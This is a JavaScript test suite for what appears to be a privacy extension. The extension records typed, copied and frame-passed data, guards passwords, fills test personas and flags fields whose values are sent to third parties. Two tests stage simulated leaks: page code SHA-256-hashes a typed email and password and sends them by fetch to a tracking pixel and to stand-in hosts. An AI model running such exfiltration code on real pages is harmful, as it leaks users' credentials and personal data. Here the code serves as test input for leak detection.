// What is typed, sent, selected and handed to frames reaches the core and nobody else; a persona is filled in and sends nothing; the fields
// whose values left are outlined; where nobody watches, nothing of it happens.
import assert from "node:assert/strict";
import { afterEach, beforeEach, test } from "node:test";
import { setTimeout as pause } from "node:timers/promises";
import { ShadowReader } from "./lib/chromium.mjs";
import { stage } from "./lib/stage.mjs";
import { Watched } from "./lib/watched.mjs";

const it = stage();
const SITE = "www.lakeside.example";
const FRAME = "widget.example";
const PASSWORD = "correct-horse-9-battery";
const EMAIL = "jordan.avery@mail.example";

// An icon of its own: else the browser asks the site for one whenever it likes.
const PAGE = `<!doctype html><title>Visit</title><link rel="icon" href="data:,"><main>
<p id="words">Results of your thyroid panel are in.</p>
<form id="intake" action="/sent" method="get">
  <label>E-mail <input type="email" name="email" autocomplete="email"></label>
  <label>Date of birth <input name="dob" placeholder="MM/DD/YYYY"></label>
  <label>Born on <input type="date" name="bday" autocomplete="bday"></label>
  <label>City <input name="city" autocomplete="address-level2"></label>
  <label>Reason <textarea name="reason"></textarea></label>
  <label>Plan <select name="plan"><option value="1">Choose</option><option value="2">Blue Heron Gold</option></select></label>
  <label>Password <input type="password" name="pw" autocomplete="current-password"></label>
  <input type="hidden" name="token" value="hidden-token-value"><label><input type="checkbox" name="ok" value="checkbox-value">OK</label>
  <label style="position:absolute;left:-9999px">Leave empty <input name="email2" autocomplete="email"></label>
  <button>Request appointment</button>
</form>
<section><label>Search <input id="q" name="q" type="search"></label><div><button type="button" id="go">Find a doctor</button></div></section>
<div id="note" contenteditable="true" aria-label="Note to the practice"></div>
<div id="open"></div><div id="closed"></div>
<script>
  for (const mode of ["open", "closed"]) {
    const root = document.getElementById(mode).attachShadow({ mode });
    root.innerHTML = '<label>Member ID <input name="member-' + mode + '"></label>';
  }
  // A page that stops events before anybody below sees them.
  for (const name of ["input", "change", "submit", "click"]) document.addEventListener(name, (event) => {
    event.stopImmediatePropagation();
    if (name !== "submit") return;
    event.preventDefault();
    window.sends = (window.sends ?? 0) + 1;
  }, true);
</script></main>`;
const WIDGET = `<!doctype html><title>Widget</title><input name="inside"><script>addEventListener("message", () => {});</script>`;

/** @type {Watched} */
let watched;
beforeEach(async () => {
  it.sink.staged.set(`${SITE}/visit`, { type: "text/html", body: PAGE });
  it.sink.staged.set(`${FRAME}/w`, { type: "text/html", body: WIDGET });
  watched = await Watched.open(it.browser, `https://${SITE}/visit`);
  await watched.page.goto(`https://${SITE}/visit`, { waitUntil: "load" });
});
afterEach(() => watched.close());

/** The log's observations of a kind, of the page shown last. */
async function told(kind) {
  const lines = (await watched.export("log")).trim().split("\n").map((line) => JSON.parse(line));
  const from = lines.findLastIndex((line) => line.event?.navigation?.frame === 0);
  return lines.slice(from).flatMap((line) => line.event?.[kind] ?? []);
}
async function until(ask, what) {
  for (const end = Date.now() + 15_000; ;) {
    const got = await ask();
    if (got) return got;
    assert.ok(Date.now() < end, `did not come: ${what}`);
    await pause(50);
  }
}
const typed = (about, value) => until(async () => (await told("typed")).find((one) => one.about === about && one.value === value), `${about} ${value}`);

test("what is typed is told by field, once, and what a page holds by itself is not", async () => {
  const { page } = watched;
  await page.type("[name=email]", EMAIL, { delay: 5 });
  await page.type("[name=reason]", "night sweats");
  await page.select("[name=plan]", "2");
  await page.click("[name=ok]");
  await page.type("#note", "please call after six");
  await typed("email\temail\tE-mail\temail", EMAIL);
  await typed("textarea\treason\tReason\t", "night sweats");
  await typed("select-one\tplan\tPlan\t", "Blue Heron Gold");
  await typed("textbox\tnote\tNote to the practice\t", "please call after six");
  const all = await told("typed");
  assert.equal(new Set(all.map((one) => one.field)).size, 4, JSON.stringify(all));
  assert.ok(all.length < 30, "not a message a key");
  assert.deepEqual(all.filter(({ value }) => /hidden-token|checkbox-value/.test(value)), []);
});

test("fields in shadow roots, open and closed, and what a page puts in by script and says so", async () => {
  const { page } = watched;
  await page.evaluate(() => document.getElementById("open").shadowRoot.querySelector("input").focus());
  await page.keyboard.type("W-123456");
  // The page keeps its closed root to itself; the keyboard goes there all the same.
  await page.keyboard.press("Tab");
  await page.keyboard.type("W-654321");
  await typed("text\tmember-open\tMember ID\t", "W-123456");
  await typed("text\tmember-closed\tMember ID\t", "W-654321");
  await page.evaluate(() => {
    const city = document.querySelector("[name=city]");
    city.value = "Ashland";
    city.dispatchEvent(new Event("change", { bubbles: true }));
  });
  await typed("text\tcity\tCity\taddress-level2", "Ashland");
});

test("a form that is sent is told with its button, once; so is a button beside a field", async () => {
  const { page } = watched;
  await page.type("[name=email]", EMAIL);
  await page.click("#intake button");
  const [{ fields, button }] = await until(async () => (await told("submitted")).length && told("submitted"), "submitted");
  const email = await typed("email\temail\tE-mail\temail", EMAIL);
  assert.deepEqual([fields, button], [[email.field], "Request appointment"]);
  await page.type("#q", "oncology");
  await page.keyboard.press("Enter");
  await until(async () => (await told("submitted")).length === 2, "Enter");
  await page.click("#go");
  const search = await until(async () => (await told("submitted")).find((one) => one.button === "Find a doctor"), "the button");
  assert.deepEqual(search.fields, [(await typed("search\tq\tSearch\t", "oncology")).field]);
  // What a page makes up is none. A field's words told after it say that it was heard.
  await page.evaluate(() => document.querySelector("#go").click());
  await page.evaluate(() => document.querySelector("#intake").dispatchEvent(new Event("submit", { bubbles: true })));
  await page.evaluate(() => document.querySelector("#q").dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true })));
  await page.type("[name=reason]", "after-the-forgeries");
  await typed("textarea\treason\tReason\t", "after-the-forgeries");
  assert.deepEqual((await told("submitted")).map((one) => one.button), ["Request appointment", "Enter", "Find a doctor"]);
});

test("what is still being typed is told before the page is left", async () => {
  const { page } = watched;
  await page.type("[name=reason]", "typed at the last moment");
  await page.evaluate(() => { location.href = "/next"; });
  await until(async () => (await watched.export("log")).includes("typed at the last moment"), "the last words");
});

test("selected text is told; what is selected in a field is not", async () => {
  const { page } = watched;
  await page.type("[name=city]", "a city with many letters");
  await page.evaluate(() => document.querySelector("[name=city]").select());
  // What is copied is told at once.
  const copy = async () => {
    await page.evaluate(() => { window.copied = new Promise((done) => addEventListener("copy", done, { once: true })).then(() => true); });
    await page.keyboard.down("Control");
    await page.keyboard.press("KeyC", { commands: ["Copy"] });
    await page.keyboard.up("Control");
    assert.equal(await page.evaluate(() => window.copied), true, "it was copied");
  };
  await copy();
  await page.evaluate(() => {
    document.activeElement.blur();
    getSelection().selectAllChildren(document.querySelector("#words"));
  });
  await copy();
  const words = "Results of your thyroid panel are in.";
  await until(async () => (await told("selected")).some(({ text }) => text === words), "the words");
  assert.deepEqual((await told("selected")).map(({ text }) => text), [words]);
});

test("a frame of another site tells what it is handed; the page's own frames and windows do not", async () => {
  const { page } = watched;
  const framed = (src) => page.evaluate(async (address) => {
    const frame = document.createElement("iframe");
    frame.src = address;
    document.body.append(frame);
    await new Promise((done) => frame.addEventListener("load", done));
  }, src);
  const hand = (data) => page.evaluate((message) => {
    [...document.querySelectorAll("iframe")].at(-1).contentWindow.postMessage(message, "*");
    window.postMessage(message, "*");
  }, data);
  await framed(`https://${SITE}/visit`);
  await hand({ own: "frame" });
  // A frame's scripts come a moment after its document, and what it is handed before is not heard: handed until it is told.
  const got = [];
  for (const [url, data] of [[`https://${FRAME}/w`, { user: { email: EMAIL }, list: [1, 2] }], [`https://${FRAME}/w?2`, "x".repeat(70_000)]]) {
    await framed(url);
    got.push(await until(async () => {
      await hand(data);
      return (await told("message")).find((one) => one.url === url);
    }, "the message"));
  }
  assert.deepEqual([...new Set((await told("message")).map(({ url, from, cut }) => [url, from, cut].join(" ")))], [
    `https://${FRAME}/w https://${SITE} false`, `https://${FRAME}/w?2 https://${SITE} true`]);
  assert.equal(got[0].body.text, JSON.stringify({ user: { email: EMAIL }, list: [1, 2] }));
  assert.equal(got[1].body.text.length, 65_536);
  assert.ok(got.every(({ frame }) => frame > 0));
});

test("a password is in no journal, no log and no storage", async () => {
  const { page, asker } = watched;
  await page.type("[name=reason]", "beside-the-password");
  await page.type("[name=pw]", PASSWORD);
  // As many pages offer: to show what was typed.
  await page.evaluate(() => Object.assign(document.querySelector("[name=pw]"), { type: "text", name: "x", autocomplete: "off" }).closest("label").firstChild.remove());
  await page.type("[name=x]", "!");
  await page.click("#intake button");
  await until(async () => (await told("typed")).filter((one) => one.about === "password\tx\t\toff").length > 0, "what was typed after that");
  const line = await until(async () => (await told("typed")).find((one) => one.about.startsWith("password\t")), "that there is one");
  assert.deepEqual([line.secret, line.value], [true, ""]);
  await watched.covered();
  const kept = await asker.evaluate(async () => {
    const all = [await chrome.storage.session.get(null), await chrome.storage.local.get(null)];
    const snapshot = all[0].snap?.base64 ? atob(all[0].snap.base64) : (all[0].snap?.text ?? "");
    return JSON.stringify(all) + snapshot;
  });
  assert.ok(kept.includes("beside-the-password"), "clean twin: other words are kept, and would be found");
  assert.ok(!kept.includes(PASSWORD), "the password is kept nowhere");
  for (const what of ["log", "view", "report"]) assert.ok(!(await watched.export(what)).includes(PASSWORD), what);
});

test("a password that is shown before it is typed is one all the same", async () => {
  const { page } = watched;
  await page.evaluate(() => {
    const field = document.querySelector("[name=pw]");
    // As pages do that show it where the button beside it is pressed, or as soon as somebody goes there.
    field.addEventListener("focus", () => Object.assign(field, { type: "text", name: "x", autocomplete: "off" }).closest("label").firstChild.remove());
  });
  await page.type("[name=pw]", PASSWORD);
  await page.type("[name=reason]", "after-the-password");
  await typed("textarea\treason\tReason\t", "after-the-password");
  const line = (await told("typed")).find((one) => /^\w+\tx\t/.test(one.about));
  assert.deepEqual([line.about.split("\t")[0], line.secret, line.value], ["password", true, ""]);
  assert.ok(!(await watched.export("log")).includes(PASSWORD));
});

test("the page sees nothing of it: no element, attribute or event of its own holds what was typed", async () => {
  const { page } = watched;
  await page.evaluate(() => {
    window.heard = [];
    const dispatch = EventTarget.prototype.dispatchEvent;
    EventTarget.prototype.dispatchEvent = function (event) {
      window.heard.push(`${event.type} ${event.detail ?? ""}`);
      return dispatch.call(this, event);
    };
    for (const name of ["leaklight-note", "leaklight-wake", "message", "leaklight-fields"]) {
      addEventListener(name, (event) => window.heard.push(`${name} ${JSON.stringify(event.detail ?? event.data ?? "")}`));
    }
    new MutationObserver((changes) => changes.forEach((c) => window.heard.push(`mutation ${c.type} ${c.target.nodeName}`)))
      .observe(document, { childList: true, subtree: true, attributes: true });
  });
  await page.type("[name=email]", EMAIL);
  await typed("email\temail\tE-mail\temail", EMAIL);
  const { heard, markup } = await page.evaluate(() => ({ heard: window.heard, markup: document.documentElement.outerHTML }));
  assert.deepEqual(heard.filter((line) => line.includes("jordan") || line.startsWith("mutation attributes")), []);
  assert.ok(!markup.includes(EMAIL));
});

test("a field that is outlined: over it, apart from it, gone with its card", async () => {
  const { page, asker, tab } = watched;
  await page.type("[name=city]", "Ashland");
  const { field } = await typed("text\tcity\tCity\taddress-level2", "Ashland");
  const reader = await ShadowReader.on(page);
  const before = await page.$eval("[name=city]", (input) => [input.outerHTML, input.getAttribute("style"), getComputedStyle(input).outline]);
  const outline = (fields) => asker.evaluate((id, list) => chrome.tabs.sendMessage(id, { type: "outline", fields: list }, { frameId: 0 }).catch(() => {}), tab, fields);
  const tags = async () => (await reader.elements()).filter((e) => e.tag === "span" && e.text === "sent to another company");
  await outline([field + 999]);
  assert.deepEqual(await tags(), [], "a field that is not there has no outline");
  await outline([field]);
  await until(async () => (await tags()).length === 1, "one outline");
  // The page restyles everything, throws out what it does not know, and scrolls.
  await page.evaluate(() => {
    document.head.insertAdjacentHTML("beforeend", "<style>*{display:none!important;opacity:0!important;pointer-events:auto!important}html,body,main,form,label,input,dialog{display:block!important;opacity:1!important}</style>");
    document.body.style.height = "4000px";
    document.documentElement.lastElementChild.remove();
    scrollTo(0, 40);
  });
  await until(async () => {
    const box = (await reader.elements()).find((e) => e.tag === "div" && e.text === "sent to another company" && /border: 3px/.test(e.attributes.style ?? ""));
    const [left, top] = /left: ([-\d.]+)px; top: ([-\d.]+)px/.exec(box?.attributes.style ?? "")?.slice(1).map(Number) ?? [];
    const at = await page.$eval("[name=city]", (input) => [input.getBoundingClientRect().left, input.getBoundingClientRect().top]);
    return Math.abs(left + 6 - at[0]) < 1 && Math.abs(top + 6 - at[1]) < 1;
  }, "an outline where the field is");
  const over = await page.evaluate(() => {
    const host = document.documentElement.lastElementChild;
    const { left, top } = document.querySelector("[name=city]").getBoundingClientRect();
    return { shown: getComputedStyle(host).display, opacity: getComputedStyle(host).opacity, hit: document.elementFromPoint(left + 5, top + 5)?.getAttribute("name"), shadow: host.shadowRoot };
  });
  assert.deepEqual(over, { shown: "block", opacity: "1", hit: "city", shadow: null });
  assert.deepEqual((await page.$eval("[name=city]", (input) => [input.outerHTML, input.getAttribute("style")])), before.slice(0, 2), "the field itself is as it was");
  // Nothing is drawn over a dialog the page opens; what is in it is outlined there.
  const modal = (inside) => page.evaluate((within) => {
    const dialog = document.body.appendChild(document.createElement("dialog"));
    const city = document.querySelector("[name=city]").closest("label");
    const [parent, next] = [city.parentNode, city.nextSibling];
    dialog.textContent = "Leave?";
    if (within) dialog.append(city);
    dialog.addEventListener("close", () => {
      parent.insertBefore(city, next);
      dialog.remove();
    });
    dialog.showModal();
  }, inside);
  const shut = () => page.evaluate(() => document.querySelector("dialog").close());
  await modal(false);
  await until(async () => (await tags()).length === 0, "no outline over a dialog");
  await shut();
  await until(async () => (await tags()).length === 1, "the outline once more");
  await modal(true);
  await until(async () => (await tags()).length === 1, "an outline in the dialog");
  await shut();
  await outline([]);
  await until(async () => (await tags()).length === 0, "none left");
});

test("where nobody watches, nothing is listened to and nothing is answered", async () => {
  const { asker } = watched;
  const other = await it.browser.newPage();
  await other.goto(`https://${SITE}/visit`, { waitUntil: "load" });
  await other.type("[name=reason]", "typed-in-another-tab");
  await other.click("#intake button");
  const tab = await it.browser.tabId(other);
  const answer = await asker.evaluate((id) => chrome.tabs.sendMessage(id, { type: "fields" }, { frameId: 0 }).then((a) => a ?? "none", () => "nobody"), tab);
  assert.match(answer, /none|nobody/);
  const kept = await asker.evaluate(async () => JSON.stringify([await chrome.storage.session.get(null), await chrome.storage.local.get(null)]));
  assert.ok(!kept.includes("typed-in-another-tab"));
  await other.close();
});

test("a persona is filled in, to be seen, and nothing is sent by it", async () => {
  const { page } = watched;
  const persona = {
    id: "jordan", name: "Jordan Avery", on: true, saved: false,
    details: [{ what: "email", value: EMAIL }, { what: "birth-date", value: "1987-03-14" }, { what: "city", value: "Ashland" }],
  };
  assert.deepEqual(await watched.ask({ type: "persona", persona }), { ok: true });
  const mark = it.sink.requests.length;
  const answer = await watched.ask({ type: "fill", tab: watched.tab, persona: "jordan" });
  assert.equal(answer.ok, true, JSON.stringify(answer));
  const values = await page.evaluate(() => Object.fromEntries([...document.forms[0].elements].filter((e) => e.name).map((e) => [e.name, e.value])));
  assert.deepEqual([values.email, values.dob, values.bday, values.city], [EMAIL, "03/14/1987", "1987-03-14", "Ashland"]);
  assert.deepEqual([values.email2, values.pw, answer.text], ["", "", "4"], "not what nobody sees, and no password");
  assert.equal(await page.evaluate(() => window.sends ?? 0), 0);
  assert.deepEqual(it.sink.since(mark).map((r) => r.url.href), []);
  await typed("email\temail\tE-mail\temail", EMAIL);
  assert.deepEqual(await watched.ask({ type: "fill", tab: watched.tab, persona: "nobody" }), { ok: false, error: "No field of this page asks for what this test patient holds." });
  await page.goto(`https://${SITE}/next`, { waitUntil: "load" });
  assert.deepEqual(await watched.ask({ type: "fill", tab: watched.tab, persona: "jordan" }), { ok: false, error: "This page shows no field to fill in." });
  assert.deepEqual(await watched.ask({ type: "persona", persona: { id: "jordan" }, on: false }), { ok: true });
});

test("what is typed becomes known, and is found where it leaves in disguise; its field is outlined", async () => {
  const { page } = watched;
  const reader = await ShadowReader.on(page);
  await page.type("[name=email]", EMAIL);
  const view = await watched.untilView((v) => v.known.some((one) => one.what.toLowerCase() === "e-mail address"), "the address to be known");
  assert.deepEqual(view.known.flatMap((one) => one.left), [], "clean twin: nothing left yet");
  assert.ok(!(await watched.export("report")).includes(EMAIL), "masked in what may be written to disk");
  await page.click("#intake button");
  await page.evaluate(async (mail) => {
    const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(mail)));
    const hex = [...digest].map((byte) => byte.toString(16).padStart(2, "0")).join("");
    await fetch(`https://www.facebook.com/tr/?id=1&ev=Lead&ud[em]=${hex}`, { mode: "no-cors" });
  }, EMAIL);
  const left = await watched.untilView((v) => v.known.some((one) => one.left.length > 0), "that it left");
  assert.match(left.known.find((one) => one.left.length > 0).left[0].how, /SHA-256/);
  await reader.until((elements) => elements.some((e) => e.tag === "span" && e.text === "sent to another company"), { what: "the outline" });
});

test("what was typed is known again after the worker was ended; a password is not", async () => {
  const { page } = watched;
  const digests = (to) => page.evaluate(async (host, mail, password) => {
    const hex = async (text) => [...new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)))]
      .map((byte) => byte.toString(16).padStart(2, "0")).join("");
    // The password first: what is told of the address was told after it was read.
    for (const text of [password, mail]) await fetch(`https://${host}/?q=${await hex(text)}`, { mode: "no-cors" });
  }, to, EMAIL, PASSWORD);
  const left = (view, what, host) => view.known.filter((one) => one.what === what).flatMap((one) => one.left).filter((one) => one.name.includes(host));
  const lost = (view) => view.blind_spots.filter(({ said }) => /passwords? or card numbers? typed before the restart (is|are) no longer looked for/.test(said));
  await page.type("[name=email]", EMAIL);
  await page.type("[name=pw]", PASSWORD);
  await page.focus("[name=reason]");
  await watched.untilView((v) => v.known.length >= 2, "both to be known");
  await digests("before.example");
  const before = await watched.untilView((v) => left(v, "E-mail address", "before.example").length > 0, "that it left");
  assert.equal(left(before, "Password", "before.example").length, 1, "clean twin: a password's digest is proven before the worker's end");
  assert.deepEqual(lost(before), []);
  await watched.covered();
  await it.browser.killWorker();
  await digests("after.example");
  const after = await watched.untilView((v) => left(v, "E-mail address", "after.example").length > 0, "that it left, told by the new worker");
  assert.deepEqual(after.known.filter((one) => one.left.some(({ name }) => name.includes("after.example"))).map((one) => one.what), ["E-mail address"]);
  const proofs = after.findings.filter((f) => f.recipient?.host === "after.example").flatMap((f) => f.evidence).flatMap((e) => e.known?.value ?? []);
  assert.ok(proofs.length > 0 && proofs.every((value) => /e-mail/i.test(value)), JSON.stringify(proofs));
  assert.equal(lost(after).length, 1, JSON.stringify(after.blind_spots));
});
